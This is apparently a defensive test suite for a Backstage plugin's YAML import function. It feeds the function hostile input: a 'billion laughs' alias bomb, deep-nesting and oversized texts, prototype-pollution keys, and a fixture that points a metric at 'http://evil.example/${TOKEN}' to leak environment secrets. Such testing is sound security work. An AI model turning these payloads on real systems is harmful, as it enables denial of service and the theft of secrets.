import { InputError } from '@backstage/errors';
import { ImportFormat } from 'backstage-plugin-canary-common';
import fc from 'fast-check';
import { parseAllDocuments, stringify } from 'yaml';
import { importPlan } from './importPlan';
import { MAX_TEXT_BYTES } from './readDocuments';
import { fixtures } from './testing/fixtures';
import { readBack } from './testing/readBack';

const template = (spec: string) =>
  `apiVersion: argoproj.io/v1alpha1\nkind: AnalysisTemplate\nmetadata: { name: x }\nspec: ${spec}\n`;

const bomb = [
  'a: &a [x, x, x, x, x, x, x, x, x]',
  ...[...'bcdefgh'].map((letter, n) => {
    const before = 'abcdefg'[n];
    return `${letter}: &${letter} [${Array(9).fill(`*${before}`).join(', ')}]`;
  }),
].join('\n');

describe('importPlan of hostile text', () => {
  it.each<[string, string, RegExp]>([
    ['nothing', '', /^text: is empty/],
    ['only comments', '# nothing\n---\n', /^text: is empty/],
    ['no YAML', 'kind: [', /^text: is no valid YAML/],
    ['a template of Helm', '{{- if .x }}\na: 1', /^text: .*templates of Helm/],
    ['a billion laughs', bomb, /^text: is no valid YAML: Excessive alias/],
    ['two megabytes', 'x'.repeat(2_000_000), /^text: is longer than 262144/],
    [
      'one byte too many',
      `${'ä'.repeat(MAX_TEXT_BYTES / 2)}x`,
      /^text: is longer/,
    ],
    ['deep lists', '['.repeat(100_000), /^text: .* nested deeper than 64/],
    ['deep maps', '{a: '.repeat(50_000), /^text: .* nested deeper than 64/],
    ['deep items', '- '.repeat(100_000), /^text: .* nested deeper than 64/],
    ['deep keys', '? '.repeat(100_000), /^text: .* nested deeper than 64/],
    [
      'deep indentation',
      Array.from({ length: 600 }, (_, n) => `${' '.repeat(n)}a:`).join('\n'),
      /^text: .* nested deeper than 64/,
    ],
    ['a text', 'hello', /^text: must be a map/],
    ['a list', '- a', /^text: must be a map/],
    ['a map twice told', 'a: 1\na: 2', /^text: is no valid YAML/],
    ['another kind', 'apiVersion: v1\nkind: Pod', /^text: is of no format/],
    ['many documents', '---\na: 1\n'.repeat(101), /^text: has 101 documents/],
    ['a list for a map', template('[]'), /^spec: must be a map, and is a list/],
    [
      'a map for a list',
      template('{ metrics: {} }'),
      /^spec\.metrics: must be a list, and is a map/,
    ],
    [
      'a list for a text',
      template('{ metrics: [{ name: [a] }] }'),
      /^spec\.metrics\[0\]\.name: must be a text, and is a list/,
    ],
    [
      'a metric without a name',
      template('{ metrics: [{}] }'),
      /^spec\.metrics\[0\]\.name: is missing/,
    ],
  ])('says what is wrong with %s', (_, text, message) => {
    const attempt = () => importPlan({ text });
    expect(attempt).toThrow(InputError);
    expect(attempt).toThrow(message);
  });

  it('says that a text is not of the format that was named', () => {
    const { text } = fixtures[0];
    expect(() => importPlan({ format: 'kayenta', text })).toThrow(
      /^text: holds nothing of Kayenta/,
    );
  });

  it('draws nothing of the portal’s environment into what it writes', () => {
    const text = template(
      '{ metrics: [{ name: "${HOME}", successCondition: result > 1, provider: { prometheus: { address: "http://evil.example/${TOKEN}", query: "up{a=\\"${SECRET}\\"}" } } }] }',
    );
    const { yaml } = importPlan({ text });
    expect(yaml.match(/(?<!\$)\$\{\w+\}/g)).toEqual(['${PROMETHEUS_URL}']);
    expect(yaml).toContain('$${SECRET}');
  });

  it('writes no tag of a template that is not ours', () => {
    const text = template(
      '{ metrics: [{ name: m, successCondition: result > 1, provider: { prometheus: { query: "a{{#b}}{{{c}}}{{{{d}}}}{{& e}}{{ pods }}{" } } }] }',
    );
    expect(() => readBack(importPlan({ text }).yaml)).not.toThrow();
  });

  it('gives thousands of metrics of one name each a name of its own', () => {
    const metrics = Array.from(
      { length: 2_000 },
      (_, n) =>
        `{name: m, successCondition: result > ${n}, provider: {prometheus: {query: up}}}`,
    );
    const { yaml } = importPlan({
      text: template(`{ metrics: [${metrics.join(', ')}] }`),
    });
    expect(Object.keys(readBack(yaml).metrics)).toHaveLength(2_000);
  });

  it('keeps prototypes out of it', () => {
    const text = template(
      '{ __proto__: { metrics: [] }, args: [{ name: __proto__, value: x }], metrics: [{ name: constructor, successCondition: result > 1, provider: { prometheus: { query: "up{{args.__proto__}}" } } }, { name: __proto__, provider: { __proto__: {} } }] }',
    );
    const { yaml } = importPlan({ text });
    expect(Object.keys(readBack(yaml).metrics)).toEqual(['constructor']);
  });

  const junk = fc.oneof(
    fc.constantFrom<unknown>(
      null,
      '',
      ' ',
      '{{',
      '}}',
      '{{ args.x }}',
      '-1',
      -1,
      0,
      1e308,
      '100',
      'NaN',
      '10000000000h',
      true,
      [],
      {},
      [null],
      [{}],
      { a: 1 },
      'x'.repeat(3_000),
      '\u0000',
      '__proto__',
    ),
    fc.string({ maxLength: 20 }),
    fc.double(),
    fc.jsonValue({ maxDepth: 2 }),
  );

  it('whatever stands in one place of a good text, the plan can be read or the place is named', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...fixtures),
        fc.array(fc.tuple(fc.nat(), junk), { minLength: 1, maxLength: 3 }),
        (fixture, changes) => {
          const documents = parseAllDocuments(fixture.text).map(one =>
            one.toJS(),
          );
          for (const [place, value] of changes) put(documents, place, value);
          const text = documents.map(one => stringify(one)).join('---\n');
          const problem = problemOf(fixture.format, text);
          expect(problem).toBeUndefined();
        },
      ),
      { numRuns: 300 },
    );
  });
});

/** A path, whose keys in brackets are quoted and may hold anything: `queries[" "]: `. */
const PLACE = /^(?!Plan|The)(?:\["(?:[^"\\]|\\.)*"\]|[^\s:"])+: /;

/** Puts a value into one of all places of the documents. */
function put(documents: unknown[], place: number, value: unknown): void {
  const places: [any, string | number][] = [];
  const walk = (node: any) => {
    if (typeof node !== 'object' || node === null) return;
    for (const key of Object.keys(node)) {
      places.push([node, key]);
      walk(node[key]);
    }
  };
  walk(documents);
  const [node, key] = places[place % places.length];
  node[key] = value;
}

/** What is wrong with how a text was answered: neither a readable plan nor a named place. */
function problemOf(format: ImportFormat, text: string): unknown {
  try {
    readBack(importPlan({ format, text }).yaml);
    return undefined;
  } catch (error) {
    const isNamed = error instanceof InputError && PLACE.test(error.message);
    return isNamed ? undefined : error;
  }
}
